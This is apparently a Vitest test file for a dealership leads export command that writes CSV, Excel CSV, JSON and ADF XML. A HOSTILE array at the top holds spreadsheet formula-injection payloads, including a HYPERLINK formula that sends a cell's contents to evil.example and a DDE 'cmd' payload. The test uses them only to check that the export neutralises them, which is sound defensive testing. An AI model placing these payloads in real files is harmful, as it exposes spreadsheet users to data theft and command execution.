import { readdir, readFile, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { type Lead, readSpreadsheetCell, SHEET_COLUMNS } from "#domain/leads/index.ts";
import { after, sampleLead } from "../contract/lead-samples.ts";
import { leadsCli } from "./leads-cli.ts";

const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1;"Offre")',
  "+352 621 123 456",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1;2)",
  "  =1+1",
  "＝1+1",
  "'déjà cité",
  'a;b,c "d"\nà la ligne',
];

describe("vitrine leads export", () => {
  const cli = leadsCli();
  const run = (...words: string[]) => cli().run("export", ...words);

  const rows = (csv: string, delimiter: "," | ";" = ","): readonly Record<string, string>[] =>
    parse(csv, { columns: true, delimiter, bom: true });

  it("writes a sheet under one header, oldest first, in which nothing can be computed and everything be read back", async () => {
    const leads = HOSTILE.map((text, index) =>
      sampleLead({
        created_at: after(index).toISOString(),
        fields: { ...sampleLead().fields, last_name: text, message: text },
      }),
    );
    await cli().keep(...leads.toReversed());
    const { out, err, code } = await run();
    expect([err, code]).toEqual(["8 leads written as csv\n", 0]);
    expect(out.slice(0, out.indexOf("\r\n"))).toBe(SHEET_COLUMNS.join(","));
    const read = rows(out);
    expect(read.map(({ reference }) => reference)).toEqual(leads.map(({ reference }) => reference));
    for (const [index, text] of HOSTILE.entries()) {
      expect(read[index]!.message).not.toMatch(/^[\s"]*[=+\-@＝]/);
      expect(readSpreadsheetCell(read[index]!.message!)).toBe(text);
      expect(readSpreadsheetCell(read[index]!.last_name!)).toBe(text);
    }
    expect(read[0]).toMatchObject({
      received: "2026-11-21 13:00",
      kind: "interest",
      location: "bertrange",
      vehicles: "12-1-ford-puma-st-line",
      newsletter: "yes",
      email: "zoe@exemple.lu",
    });
  });

  it("writes for Excel with a byte order mark and semicolons", async () => {
    await cli().keep(sampleLead());
    const { out } = await run("--excel");
    expect(out.startsWith("\uFEFFreference;received;")).toBe(true);
    expect(rows(out, ";")[0]).toMatchObject({
      first_name: "Zoë",
      message: 'Deux lignes,\nun "guillemet", une \\ et 😀',
    });
  });

  it("writes JSON that is an array, also of none, and nothing else", async () => {
    expect(await run("--format", "json")).toMatchObject({ out: "[]\n", err: "0 leads written as json\n" });
    const leads = [sampleLead(), sampleLead({ created_at: after(60).toISOString(), kind: "contact", subject: null })];
    await cli().keep(...leads);
    const { idempotency_key: _key, fingerprint: _print, ...first } = leads[0]!;
    const written = JSON.parse((await run("--format", "json")).out) as Lead[];
    expect(written).toHaveLength(2);
    expect(written[0]).toEqual(first);
    const contacts = await run("--format", "json", "--kind", "contact", "--since", after(30).toISOString());
    expect(JSON.parse(contacts.out)).toHaveLength(1);
    expect(JSON.parse((await run("--format", "json", "--until", after(30).toISOString())).out)).toHaveLength(1);
    expect(JSON.parse((await run("--format", "json", "--location", "diekirch")).out)).toEqual([]);
  });

  it("writes one document for dealers' systems", async () => {
    const leads = [sampleLead(), sampleLead({ created_at: after(60).toISOString() })];
    await cli().keep(...leads);
    const { out, code } = await run("--format", "adf");
    expect(code).toBe(0);
    expect(out).toMatch(/^<\?xml version="1\.0" encoding="UTF-8"\?>\n<\?adf version="1\.0"\?>\n<adf>\n {2}<prospect/);
    expect(out.match(/<prospect /g)).toHaveLength(2);
    for (const { reference } of leads) expect(out).toContain(`>${reference}</id>`);
    expect(out).toContain("https://www.alzette.example/stock/12-1-ford-puma-st-line");
    expect(out.endsWith("</prospect>\n</adf>\n")).toBe(true);
  });

  it("replaces a file at once by one that only its owner reads, and leaves the old one where it cannot", async () => {
    const { folder, keep } = cli();
    await keep(sampleLead());
    const path = join(folder, "leads.csv");
    await writeFile(path, "old", { mode: 0o644 });
    expect(await run("--output", path)).toEqual({ out: "", err: "1 leads written as csv\n", code: 0 });
    expect(rows(await readFile(path, "utf8"))).toHaveLength(1);
    expect((await stat(path)).mode & 0o077).toBe(0);
    expect((await readdir(folder)).filter((name) => name.endsWith(".part"))).toEqual([]);
    const refused = await run("--output", join(folder, "nowhere", "leads.csv"));
    expect([refused.out, refused.code]).toEqual(["", 3]);
  });

  it("writes thousands without holding them all", async () => {
    await cli().inDatabase(async ({ store }) => {
      for (let index = 0; index < 1_100; index += 1) {
        await store.accept(sampleLead({ reference: `N${index}`, created_at: after(index % 7).toISOString() }), []);
      }
    });
    const { out, err } = await run();
    expect(err).toBe("1100 leads written as csv\n");
    expect(new Set(rows(out).map(({ reference }) => reference)).size).toBe(1_100);
  });
});
